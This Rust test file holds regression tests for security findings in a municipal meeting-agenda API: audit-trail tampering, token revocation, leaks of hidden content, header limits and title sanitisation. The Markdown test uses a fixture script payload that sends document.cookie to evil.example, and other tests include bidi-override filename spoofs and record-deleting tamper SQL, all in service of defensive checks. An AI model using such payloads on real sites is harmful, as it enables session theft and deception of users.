//! Findings of an outside attack on the service, each held by a test that failed before its fix.

use std::time::Duration;

use diesel::{Connection, PgConnection, RunQueryDsl};
use serde_json::{Value, json};

use crate::common::{PrivateCluster, Request, TestApp};
use crate::db_tests;
use crate::fixtures;
use crate::receiver::WebhookReceiver;
use crate::robustness::{run_verify, run_verify_with, sealed_audit_with};

db_tests!(
    what_a_reader_is_shown_moves_only_when_it_may_see_the_change,
    rotating_a_clients_secret_ends_the_tokens_it_got,
    the_audit_trail_shows_removal_from_either_end,
    published_markdown_carries_no_html,
    the_bearer_scheme_is_read_whatever_its_case,
    header_fields_too_large_get_a_problem,
    titles_are_one_line_without_controls_or_overrides,
);

/// A POST answered 503 because the database went away mid-request created nothing, and its
/// Idempotency-Key is free again: the retry the client rightly makes is carried out, once. (Before,
/// the key stayed reserved until it expired, a day later, and every retry got 409.)
#[test]
fn an_idempotency_key_is_free_again_after_its_request_failed_with_the_database() {
    let Some(cluster) = PrivateCluster::create() else {
        assert!(std::env::var_os("CI").is_none(), "CI must run this test: install PostgreSQL's server programs");
        eprintln!("skipped: PostgreSQL's server programs are not installed");
        return;
    };
    let app =
        TestApp::builder(crate::common::Backend::Postgres).pool(2, Duration::from_secs(2)).start_on(cluster.url());
    let committee = fixtures::committee(&app, "Direktionen", "none");
    let body =
        json!({"committee_id": committee.id, "title": "Ekstraordinært møde", "starts_at": "2022-05-02T12:30:00+02:00"});
    let create = || {
        app.call(
            Request::new("POST", "/v1/meetings")
                .token(&committee.secretary)
                .header("Idempotency-Key", "ekstraordinaert-1")
                .json(body.clone()),
        )
    };

    // The request waits for a lock held elsewhere while the database stops under it.
    let url = cluster.url().to_string();
    let mut holder = PgConnection::establish(&url).unwrap();
    diesel::sql_query("BEGIN").execute(&mut holder).unwrap();
    diesel::sql_query("LOCK TABLE meetings IN ACCESS EXCLUSIVE MODE").execute(&mut holder).unwrap();
    let failed = std::thread::scope(|scope| {
        let request = scope.spawn(create);
        std::thread::sleep(Duration::from_millis(700));
        cluster.stop();
        request.join().unwrap()
    });
    failed.problem(503, "service-unavailable");
    drop(holder);
    cluster.start();

    let retried = create().expect(201);
    assert_eq!(retried.header("idempotent-replayed"), None, "carried out, not replayed");
    let again = create().expect(201);
    assert_eq!(again.header("idempotent-replayed"), Some("true"));
    assert_eq!(again.json()["id"], retried.json()["id"]);
    let meetings = app.get(&format!("/v1/meetings?committee_id={}", committee.id), &committee.secretary).json();
    assert_eq!(meetings["data"].as_array().unwrap().len(), 1, "one meeting, made once");
}

/// What a reader is shown of a meeting, by every way it can look.
#[derive(Debug, PartialEq)]
struct Seen {
    item: (Option<String>, Value),
    meeting: (Option<String>, Value, Value, Value),
    listed: Value,
    published: Value,
    sign_offs: Value,
    calendar: String,
    feed: (Value, Value),
}

fn seen(app: &TestApp, token: &str, meeting: i64, closed: i64, cursor: &str, calendar: &str) -> Seen {
    let item = app.get(&format!("/v1/items/{closed}"), token).expect(200);
    let whole = app.get(&format!("/v1/meetings/{meeting}"), token).expect(200);
    let body = whole.json();
    let listed = app.get("/v1/meetings?limit=200", token).json()["data"]
        .as_array()
        .unwrap()
        .iter()
        .find(|m| m["id"] == meeting)
        .cloned()
        .unwrap();
    let feed = app.get(&format!("/v1/changes?limit=200&cursor={cursor}"), token).json();
    // A calendar's DTSTAMP is when it was made; everything else is what it shows. (A service client
    // has none.)
    let calendar = if calendar.is_empty() {
        String::new()
    } else {
        let path = &calendar[calendar.find("/v1/").unwrap()..];
        let body = app.call(Request::new("GET", path)).expect(200).body;
        body.lines().filter(|l| !l.starts_with("DTSTAMP")).collect::<Vec<_>>().join("\n")
    };
    Seen {
        item: (item.header("etag").map(str::to_owned), item.json()),
        meeting: (
            whole.header("etag").map(str::to_owned),
            body["version"].clone(),
            body["updated_at"].clone(),
            body["unpublished_changes"].clone(),
        ),
        listed,
        published: app.get(&format!("/v1/meetings/{meeting}/published"), token).json(),
        sign_offs: app.get(&format!("/v1/meetings/{meeting}/sign-offs"), token).json(),
        calendar,
        feed: (feed["data"].clone(), feed["next_cursor"].clone()),
    }
}

/// The end of the change feed as `token` sees it now.
fn feed_end(app: &TestApp, token: &str) -> String {
    let mut cursor = "id.0".to_owned();
    loop {
        let page = app.get(&format!("/v1/changes?limit=200&cursor={cursor}"), token).json();
        cursor = page["next_cursor"].as_str().unwrap().to_owned();
        if !page["has_more"].as_bool().unwrap() {
            return cursor;
        }
    }
}

/// A secretary's edits of a closed item's hidden content move nothing a reader (or a member excluded
/// from the item) is shown: not the item's or the meeting's ETag, version or time of change, not
/// `unpublished_changes`, not the lists, the published versions, the sign-offs, the calendar, the
/// change feed (neither an entry nor its cursor) nor a webhook. A change they can see moves them.
fn what_a_reader_is_shown_moves_only_when_it_may_see_the_change(app: &TestApp) {
    let c = fixtures::committee(app, "Direktionen", "none");
    // Ahead, so that it is in the calendars.
    let m = fixtures::id(&fixtures::meeting(app, &c, "2031-04-28T12:30:00+02:00"));
    let closed = fixtures::id(&fixtures::item(
        app,
        &c,
        m,
        json!({"title": "Personalesag", "closed": true, "legal_basis": "offentlighedsloven_30_1", "summary": "Første udkast."}),
    ));
    let open = fixtures::id(&fixtures::item(app, &c, m, json!({"title": "Eventuelt"})));
    fixtures::act(app, &c.secretary, m, "publish-agenda", json!({})).expect(201);
    // A member excluded from the closed item sees it as a reader does.
    let excluded_subject = fixtures::unique("inhabil");
    let excluded = app.token(&excluded_subject, &[&c.member_external], &[]);
    app.post(&format!("/v1/items/{closed}/exclusions"), &c.secretary, json!({"subject": excluded_subject})).expect(201);
    // The readers' integrating system is subscribed to everything.
    let (client_id, client_secret) = app.register_client("Intranet", &[], Some(c.reader_group));
    let client = app.client_token(&client_id, &client_secret);
    let receiver = WebhookReceiver::start(Vec::new());
    let hook = app.post("/v1/webhooks", &client, json!({"url": receiver.url})).expect(201).json();

    let watchers = [("reader", &c.reader), ("excluded member", &excluded), ("client", &client)];
    let before: Vec<(String, Seen)> = watchers
        .iter()
        .map(|(who, token)| {
            let calendar = if *who == "client" {
                String::new()
            } else {
                app.post("/v1/me/calendar-feeds", token, json!({})).expect(201).json()["url"]
                    .as_str()
                    .unwrap()
                    .to_owned()
            };
            let cursor = feed_end(app, token);
            ((*who).to_owned(), (calendar, cursor))
        })
        .map(|(who, (calendar, cursor))| {
            let token = watchers.iter().find(|(w, _)| *w == who).unwrap().1;
            let state = seen(app, token, m, closed, &cursor, &calendar);
            (format!("{who}\n{calendar}\n{cursor}"), state)
        })
        .collect();
    let member_version = app.get(&format!("/v1/meetings/{m}"), &c.member).json()["version"].clone();
    // Let the subscription catch up with what happened before it.
    std::thread::sleep(Duration::from_millis(800));
    let delivered = receiver.received().len();

    // Only hidden content changes: the text, an attachment, an amount, a guest.
    let etag = app.get(&format!("/v1/items/{closed}"), &c.secretary).etag();
    app.patch(&format!("/v1/items/{closed}"), &c.secretary, &etag, json!({"summary": "Andet udkast, fortroligt."}))
        .expect(200);
    app.upload(closed, &c.secretary, "notat.txt", b"Fortroligt notat\n", None).expect(201);
    let amount = json!({"label": "Fratrædelse", "kind": "expense", "recurrence": "one_off", "amount_ore": 12_000_000});
    app.post(&format!("/v1/items/{closed}/amounts"), &c.secretary, amount).expect(201);
    app.post(&format!("/v1/items/{closed}/attendance"), &c.secretary, json!({"kind": "guest", "name": "HR-chefen"}))
        .expect(201);

    for (key, was) in &before {
        let mut parts = key.split('\n');
        let (who, calendar, cursor) = (parts.next().unwrap(), parts.next().unwrap(), parts.next().unwrap());
        let token = watchers.iter().find(|(w, _)| *w == who).unwrap().1;
        let now = seen(app, token, m, closed, cursor, calendar);
        assert_eq!(&now, was, "{who} was shown that hidden content changed");
        assert_eq!(now.feed.0, json!([]), "{who}");
        assert_eq!(now.feed.1, json!(cursor), "{who}: the feed's cursor did not move");
        assert!(who == "client" || now.calendar.contains("SEQUENCE:"), "{who}: the meeting is in the calendar");
    }
    assert_ne!(app.get(&format!("/v1/meetings/{m}"), &c.member).json()["version"], member_version, "members see it");
    std::thread::sleep(Duration::from_millis(1500));
    assert_eq!(receiver.received().len(), delivered, "the readers' system was sent nothing");

    // A change they may see moves what they are shown, and reaches their system.
    let etag = app.get(&format!("/v1/items/{open}"), &c.secretary).etag();
    app.patch(&format!("/v1/items/{open}"), &c.secretary, &etag, json!({"title": "Eventuelt og meddelelser"}))
        .expect(200);
    let reader_before = &before.iter().find(|(k, _)| k.starts_with("reader\n")).unwrap().1;
    let reader_now = app.get(&format!("/v1/meetings/{m}"), &c.reader).json();
    assert_ne!(reader_now["version"], reader_before.meeting.1);
    assert_eq!(reader_now["unpublished_changes"], true);
    let got = receiver.wait_for(delivered + 2, Duration::from_secs(10));
    let events: Vec<String> = got[delivered..].iter().map(|r| r.json()["type"].as_str().unwrap().to_owned()).collect();
    assert_eq!(events, ["meeting.updated", "item.updated"], "the visible change, once");
    assert_eq!(hook["url"], json!(receiver.url));
}

/// Rotating a client's secret is what an operator does when it has leaked: the tokens the old secret
/// got stop at once, as a deactivated user's do. (Before, they worked until they expired.)
fn rotating_a_clients_secret_ends_the_tokens_it_got(app: &TestApp) {
    let (client_id, secret) = app.register_client("ESDH-integration", &[], None);
    let issued = app.client_token(&client_id, &secret);
    app.get("/v1/me", &issued).expect(200);
    let record = app.get("/v1/clients?limit=200", &app.admin()).json()["data"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["client_id"] == json!(client_id))
        .unwrap()["id"]
        .clone();
    let rotated = app.post(&format!("/v1/clients/{record}/secret"), &app.admin(), json!({})).expect(200).json();
    let new_secret = rotated["client_secret"].as_str().unwrap();

    let refused = app.get("/v1/me", &issued).problem(401, "unauthorized");
    assert!(refused["detail"].as_str().unwrap().contains("secret"), "{refused}");
    app.get("/v1/changes", &issued).problem(401, "unauthorized");
    let fresh = app.client_token(&client_id, new_secret);
    assert_eq!(app.get("/v1/me", &fresh).expect(200).json()["subject"], json!(client_id));
    // The old secret itself gets nothing more.
    let form = format!("grant_type=client_credentials&client_id={client_id}&client_secret={secret}");
    let old =
        app.call(Request::new("POST", "/v1/auth/token").raw("application/x-www-form-urlencoded", form.into_bytes()));
    assert_eq!(old.problem(401, "token-request-refused")["error"], "invalid_client");
}

/// Runs SQL on the test's database, as an attacker with access to it would.
fn tamper(app: &TestApp, sql: &str) {
    match &app.database_url {
        dagsorden::db::DatabaseUrl::Sqlite(path) => {
            let mut conn = diesel::SqliteConnection::establish(&path.to_string_lossy()).unwrap();
            diesel::sql_query(sql).execute(&mut conn).unwrap();
        }
        dagsorden::db::DatabaseUrl::Postgres(url) => {
            let mut conn = PgConnection::establish(url).unwrap();
            diesel::sql_query(sql).execute(&mut conn).unwrap();
        }
    }
}

/// Records removed from either end of the audit trail show: from its start, however the anchor is
/// moved, unless retention recorded the removal; from its end, against a head kept elsewhere.
/// (Before, deleting the oldest records and moving the anchor to the last one deleted verified.)
fn the_audit_trail_shows_removal_from_either_end(app: &TestApp) {
    let c = fixtures::committee(app, "Direktionen", "none");
    for month in 4..=6 {
        fixtures::meeting(app, &c, &format!("2022-0{month}-25T12:30:00+02:00"));
    }
    let auditor = app.token("revisor", &[], &["auditor"]);
    let events = sealed_audit_with(app, &auditor, "", |_| true);
    let (ok, report) = run_verify(app);
    assert!(ok, "{report}");
    let head = report.split("--expect-head ").nth(1).unwrap().split(')').next().unwrap().trim().to_owned();
    let (ok, report) = run_verify_with(app, &["--expect-head", &head]);
    assert!(ok, "the head kept elsewhere is there: {report}");

    // The newest record goes: the chain left is intact, but it no longer holds the head kept.
    let newest = events.iter().map(|e| e["seq"].as_i64().unwrap()).max().unwrap();
    tamper(app, &format!("DELETE FROM audit_events WHERE seq = {newest}"));
    let (ok, report) = run_verify_with(app, &["--expect-head", &head]);
    assert!(!ok && report.contains("head kept elsewhere"), "{report}");

    // The oldest two go, and the anchor is moved to the second as retention would: no retention
    // record says so.
    let second = stored_hash(app, 2);
    tamper(app, "DELETE FROM audit_events WHERE seq <= 2");
    tamper(app, "DELETE FROM audit_anchor");
    tamper(app, &format!("INSERT INTO audit_anchor (id, seq, hash) VALUES (1, 2, '{second}')"));
    let (ok, report) = run_verify(app);
    assert!(!ok && report.contains("removed from its start"), "{report}");
}

/// The hash the sealed record at `seq` carries (the API does not show it), read as an attacker with
/// access to the database would.
fn stored_hash(app: &TestApp, seq: i64) -> String {
    #[derive(diesel::QueryableByName)]
    struct Hash {
        #[diesel(sql_type = diesel::sql_types::Text)]
        hash: String,
    }
    let sql = format!("SELECT hash FROM audit_events WHERE seq = {seq}");
    let stored: Vec<Hash> = match &app.database_url {
        dagsorden::db::DatabaseUrl::Sqlite(path) => {
            let mut conn = diesel::SqliteConnection::establish(&path.to_string_lossy()).unwrap();
            diesel::sql_query(sql).load(&mut conn).unwrap()
        }
        dagsorden::db::DatabaseUrl::Postgres(url) => {
            let mut conn = PgConnection::establish(url).unwrap();
            diesel::sql_query(sql).load(&mut conn).unwrap()
        }
    };
    stored.into_iter().next().expect("a sealed record").hash
}

/// The Markdown renderings carry no HTML: a municipality's website that renders the published
/// Markdown runs no script put into an item's text, whoever reads it. (Before, `<script>` and
/// `<iframe>` came out unchanged, also to anonymous readers of a public committee.)
fn published_markdown_carries_no_html(app: &TestApp) {
    let c = fixtures::committee(app, "Direktionen", "public");
    let m = fixtures::id(&fixtures::meeting(app, &c, "2022-04-25T12:30:00+02:00"));
    let summary = "Orientering <script>fetch('https://evil.example/'+document.cookie)</script>\n\n\
                   <iframe src=\"https://evil.example/\"></iframe>\n\n[Læs mere](javascript:alert(1))";
    fixtures::item(app, &c, m, json!({"title": "Eventuelt", "summary": summary}));
    fixtures::act(app, &c.secretary, m, "publish-agenda", json!({})).expect(201);
    for (path, token) in [
        (format!("/v1/public/meetings/{m}/published/agenda/1/markdown"), None),
        (format!("/v1/meetings/{m}/published/agenda/1/markdown"), Some(&c.member)),
    ] {
        let request = Request::new("GET", &path);
        let markdown = app.call(if let Some(token) = token { request.token(token) } else { request }).expect(200).body;
        let mut html = String::new();
        pulldown_cmark::html::push_html(&mut html, pulldown_cmark::Parser::new(&markdown));
        for element in ["<script", "<iframe", "javascript:"] {
            assert!(!html.contains(element), "{path}: {element} in {html}");
        }
        assert!(html.contains("Orientering"), "{html}");
    }
}

/// PostgreSQL closes the service's pooled connections (a restart, an operator's
/// `pg_terminate_backend`): the next requests are served on fresh connections, not answered 503. A
/// read is tried again; a write finds the connection closed as its transaction begins, before it
/// has sent anything. (Before, the first request on each closed connection got a 503.)
#[test]
fn requests_on_connections_the_database_closed_are_served_on_fresh_ones() {
    crate::common::run(crate::common::Backend::Postgres, |app| {
        let app = &TestApp::builder(app.backend).pool(3, Duration::from_secs(2)).start_on(app.database_url.clone());
        let c = fixtures::committee(app, "Direktionen", "none");
        let url = app.database_url.unredacted();
        let mut admin = PgConnection::establish(&url).unwrap();
        let close_the_services_connections = |admin: &mut PgConnection| {
            diesel::sql_query(
                "SELECT pg_terminate_backend(pid) FROM pg_stat_activity \
                 WHERE datname = current_database() AND pid <> pg_backend_pid()",
            )
            .execute(admin)
            .unwrap();
            std::thread::sleep(Duration::from_millis(200));
        };
        for round in 0..3 {
            // Every pooled connection has been used, and then closed under the service.
            for _ in 0..6 {
                app.get("/v1/committees", &c.member).expect(200);
            }
            close_the_services_connections(&mut admin);
            for _ in 0..3 {
                app.get(&format!("/v1/committees/{}", c.id), &c.member).expect(200);
            }
            close_the_services_connections(&mut admin);
            let body = json!({"committee_id": c.id, "title": format!("Møde {round}"), "starts_at": "2022-05-02T12:30:00+02:00"});
            app.post("/v1/meetings", &c.secretary, body).expect(201);
        }
        let meetings = app.get(&format!("/v1/meetings?committee_id={}", c.id), &c.member).json();
        assert_eq!(meetings["data"].as_array().unwrap().len(), 3, "each write made once");
    });
}

/// The Bearer scheme is read whatever its case (RFC 9110 §11.1). (Before, only `Bearer` and
/// `bearer` were.)
fn the_bearer_scheme_is_read_whatever_its_case(app: &TestApp) {
    let c = fixtures::committee(app, "Direktionen", "none");
    for scheme in ["Bearer", "bearer", "BEARER", "bEaReR"] {
        let me = app.call(Request::new("GET", "/v1/me").header("Authorization", &format!("{scheme} {}", c.member)));
        assert_eq!(me.expect(200).json()["subject"], json!(c.member_subject), "{scheme}");
    }
    let basic = app.call(Request::new("GET", "/v1/me").header("Authorization", &format!("Basic {}", c.member)));
    basic.problem(401, "unauthorized");
}

/// Header fields larger than the service reads (a 70 kB token) are refused with a problem that says
/// so. (Before, a 431 with an empty body.)
fn header_fields_too_large_get_a_problem(app: &TestApp) {
    let oversized = format!("{}.{}.{}", "e".repeat(30_000), "p".repeat(30_000), "s".repeat(10_000));
    let reply = app.get("/v1/me", &oversized);
    assert!(!reply.body.contains("eeeeeeee"), "the token is not repeated back");
    let problem = reply.problem(431, "headers-too-large");
    assert!(problem["detail"].as_str().unwrap().contains("65536 bytes"), "{problem}");
    // On the public API too, and a token of ordinary size is read as before.
    app.call(Request::new("GET", "/v1/public/committees").header("X-Padding", &"x".repeat(70_000)))
        .problem(431, "headers-too-large");
    app.get("/v1/me", &app.admin()).expect(200);
}

/// A title is one line that shows something; no text holds control characters or directional
/// overrides. Each is refused with 422 naming the field, and nothing changes. (Before, all were
/// stored.)
fn titles_are_one_line_without_controls_or_overrides(app: &TestApp) {
    let c = fixtures::committee(app, "Direktionen", "none");
    let meeting = fixtures::meeting(app, &c, "2022-04-25T12:30:00+02:00");
    let id = fixtures::id(&meeting);
    let item =
        fixtures::item(app, &c, id, json!({"title": "Orientering", "summary": "Første afsnit.\n\nAndet\tafsnit."}));
    let items = format!("/v1/meetings/{id}/items");

    for title in [
        "   ",
        "\u{a0}\u{200b}",
        "Evil\u{202e}txt.exe",
        "Isolate\u{2067}x\u{2069}",
        "Bell\u{7}",
        "Two\nlines",
        "Tab\there",
    ] {
        let refused = app.post(&items, &c.secretary, json!({"title": title}));
        assert_eq!(refused.error_fields(422), ["title"], "{title:?}");
    }
    let escape = app.post(&items, &c.secretary, json!({"title": "Budget", "summary": "Rød \u{1b}[31mtekst"}));
    assert_eq!(escape.error_fields(422), ["summary"]);
    assert_eq!(app.get(&items, &c.member).json().as_array().unwrap().len(), 1, "nothing was created");

    let path = format!("/v1/meetings/{id}");
    let before = app.get(&path, &c.member);
    let etag = before.header("etag").unwrap().to_owned();
    let patched = app.patch(&path, &c.secretary, &etag, json!({"title": "Direktions\u{202e}møde"}));
    assert_eq!(patched.error_fields(422), ["title"]);
    let patched = app.patch(&path, &c.secretary, &etag, json!({"location": " "}));
    assert_eq!(patched.error_fields(422), ["location"]);
    let after = app.get(&path, &c.member);
    assert_eq!(after.header("etag"), Some(etag.as_str()), "nothing changed");
    assert_eq!(after.json()["title"], "Direktionsmøde");

    let upload = app.upload(fixtures::id(&item), &c.secretary, "notat.txt", b"Notat\n", Some("notat\u{202e}fdp.exe"));
    assert_eq!(upload.error_fields(422), ["title"]);
    let reason = app.post(
        &format!("/v1/items/{}/exclusions", fixtures::id(&item)),
        &c.secretary,
        json!({"subject": c.member_subject, "reason": "\n \n"}),
    );
    assert_eq!(reason.error_fields(422), ["reason"]);
    // Paragraphs, tabs and right-to-left names with their marks are text like any other.
    let stored = app.get(&format!("/v1/items/{}", fixtures::id(&item)), &c.member).json();
    assert_eq!(stored["summary"], "Første afsnit.\n\nAndet\tafsnit.");
    let name = "مجلس البلدية\u{200f}";
    let participant = app.post(&format!("{path}/participants"), &c.secretary, json!({"name": name})).expect(201).json();
    assert_eq!(participant["name"], name);
}
